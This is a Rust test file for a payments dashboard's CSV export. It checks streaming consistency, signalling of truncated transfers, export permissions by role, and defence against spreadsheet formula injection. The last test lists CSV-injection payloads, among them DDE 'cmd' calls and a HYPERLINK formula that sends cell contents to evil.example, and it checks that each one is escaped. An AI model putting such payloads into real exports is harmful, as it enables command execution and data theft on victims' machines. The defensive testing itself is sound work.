//! The list of payments as a file, over HTTP: what a slow reader gets while rows come and change, what a reader gets of a file that breaks
//! off, who gets none, and what a spreadsheet finds in it.
#![expect(clippy::unwrap_used, clippy::panic, reason = "a test may stop where it stands")]

mod world;

use std::collections::BTreeMap;
use std::net::SocketAddr;

use axum::body::{Body, Bytes};
use axum::http::{StatusCode, header};
use http_body_util::BodyExt;
use model::rights::Role;
use sqlx::{AnyConnection, AssertSqlSafe, Connection as _, Executor as _};
use store::DatabaseUrl;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use world::World;

const CSV: &str = "/dashboard/payments.csv?window=all";
/// More than two of the batches that an export reads.
const MANY: i64 = 2_300;

async fn frame(body: &mut Body) -> Option<Bytes> {
    body.frame().await.map(|frame| frame.unwrap().into_data().unwrap())
}

/// By the names of the columns.
fn read(text: &[u8]) -> Vec<BTreeMap<String, String>> {
    csv::Reader::from_reader(text).deserialize().map(Result::unwrap).collect()
}

fn column(rows: &[BTreeMap<String, String>], name: &str) -> Vec<String> {
    rows.iter().map(|row| row[name].clone()).collect()
}

#[tokio::test]
async fn a_slow_reader_gets_exactly_what_was_there_when_it_asked() {
    for database in store_testing::databases().await.unwrap() {
        println!("on {}", database.name);
        let store = database.open().await.unwrap();
        let world = World::on(store.clone()).await;
        world.orders(MANY, |_, _| {}).await;
        // In the very millisecond in which the file is asked for, and before it.
        world.order("LAST").await;
        let listed = world.listed().await;
        assert_eq!(listed.len(), usize::try_from(MANY).unwrap() + 2);

        let mut body = world.get(&world.session, CSV).await.into_body();
        let mut file = frame(&mut body).await.unwrap().to_vec();
        let first = read(&file).len();
        assert!((1..listed.len() / 2).contains(&first), "{first} rows at once: nothing would be left to read slowly");
        // The reader takes their time. Meanwhile orders come; some that were sent and some that were not are cancelled.
        world.forward(1);
        for number in 0..30 {
            world.order(&format!("LATER-{number}")).await;
        }
        let (sent, unsent) = (&listed[first - 5..first], &listed[listed.len() - 5..]);
        for id in sent.iter().chain(unsent) {
            world.engine.cancel_intent(&world.program, id).await.unwrap();
        }
        let next = frame(&mut body).await.unwrap();
        file.extend(next);
        world.forward(1_000);
        world.order("LATEST").await;
        while let Some(next) = frame(&mut body).await {
            file.extend(next);
        }

        let rows = read(&file);
        assert_eq!(column(&rows, "id"), listed, "each row once, in the list's order, and none that came later");
        let status = |id: &String| rows.iter().find(|row| row["id"] == *id).unwrap()["status"].clone();
        assert!(sent.iter().all(|id| status(id) == "awaiting"), "a row stays as it was sent");
        assert!(unsent.iter().all(|id| status(id) == "cancelled"), "a row is as it stands when it is read");
        // Whoever asks again gets the others, too.
        let again = world.get(&world.session, CSV).await.into_body().collect().await.unwrap().to_bytes();
        assert_eq!(column(&read(&again), "id"), world.listed().await);
        world.engine.settle_down().await;
        store.close().await;
    }
}

#[tokio::test]
async fn a_file_that_breaks_off_never_looks_whole() {
    let database = store_testing::sqlite().unwrap();
    let world = World::on(database.open().await.unwrap()).await;
    world.orders(MANY, |_, _| {}).await;
    // The oldest row can't be read: the first batches can.
    let oldest = world.listed().await.pop().unwrap();
    let DatabaseUrl::Sqlite(path) = &database.url else { panic!("no SQLite file") };
    sqlx::any::install_default_drivers();
    let mut connection = AnyConnection::connect(&format!("sqlite://{}", path.display())).await.unwrap();
    let spoil = format!("UPDATE payment_intents SET currency = 'nix' WHERE id = '{oldest}'");
    connection.execute(AssertSqlSafe(spoil)).await.unwrap();
    connection.close().await.unwrap();

    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let desk = world.desk.clone().into_make_service_with_connect_info::<SocketAddr>();
    let serving = tokio::spawn(async move { axum::serve(listener, desk).await });
    let mut stream = TcpStream::connect(address).await.unwrap();
    let request = format!("GET {CSV} HTTP/1.1\r\nHost: localhost\r\nCookie: session={}\r\n\r\n", world.session);
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    // The server breaks the connection off, which it would else keep for more questions: this ends, well or badly.
    let _ = stream.read_to_end(&mut answer).await;
    let text = String::from_utf8_lossy(&answer);
    assert!(text.starts_with("HTTP/1.1 200 OK\r\n") && text.contains("transfer-encoding: chunked"), "{}", &text[..300]);
    assert!(text.contains("ORDER-2299") && !text.contains("ORDER-0,"), "it broke off on the way");
    assert!(!text.ends_with("\r\n0\r\n\r\n"), "the last chunk would say that this is all");
    serving.abort();
}

#[tokio::test]
async fn a_file_is_for_those_who_may_export() {
    let database = store_testing::sqlite().unwrap();
    let world = World::on(database.open().await.unwrap()).await;
    world.orders(3, |_, _| {}).await;
    for (role, may) in [(Role::Admin, true), (Role::Finance, true), (Role::Developer, false), (Role::Support, false), (Role::Viewer, false)]
    {
        let session = world.member(role).await;
        let answer = world.get(&session, CSV).await;
        let (status, kind) = (answer.status(), answer.headers()[header::CONTENT_TYPE].clone());
        let text = answer.into_body().collect().await.unwrap().to_bytes();
        let (expected, expected_kind) = if may { (StatusCode::OK, "text/csv") } else { (StatusCode::FORBIDDEN, "text/html") };
        assert!(status == expected && kind.to_str().unwrap().starts_with(expected_kind), "{role}: {status} {kind:?}");
        assert_eq!(String::from_utf8_lossy(&text).contains("ORDER-1"), may, "{role}");
        let list = world.get(&session, "/dashboard/payments").await.into_body().collect().await.unwrap().to_bytes();
        assert_eq!(String::from_utf8_lossy(&list).contains("/dashboard/payments.csv"), may, "{role} is offered it");
    }
}

/// What a spreadsheet would take for a formula, or for the beginning of one once it has cut a cell in two.
const HOSTILE: [&str; 10] = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{feff}=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"paid\")",
];

#[tokio::test]
async fn no_cell_of_the_file_is_a_formula_whatever_a_payer_is_called() {
    let database = store_testing::sqlite().unwrap();
    let world = World::on(database.open().await.unwrap()).await;
    world
        .orders(10, |number, row| {
            let hostile = HOSTILE[usize::try_from(number).unwrap()];
            row.payer_name = Some(hostile.to_owned());
            row.payer_email = Some(hostile.to_owned());
            row.description = Some(hostile.to_owned());
            row.order_id = Some(hostile.to_owned());
            row.unique_id = Some(format!("{hostile}{number}"));
            row.brand = Some(hostile.to_owned());
        })
        .await;
    let file = world.get(&world.session, CSV).await.into_body().collect().await.unwrap().to_bytes();
    let rows = read(&file);
    assert_eq!(rows.len(), HOSTILE.len() + 1);
    let names = column(&rows, "name");
    for hostile in HOSTILE {
        assert!(names.contains(&format!("'{hostile}")), "{hostile:?} is told as it is, behind an apostrophe: {names:?}");
    }
    for (name, cell) in rows.iter().flatten() {
        let first = cell.trim_start_matches([' ', '\u{feff}']).chars().next();
        assert!(!matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n')), "{name}: {cell:?}");
    }
}
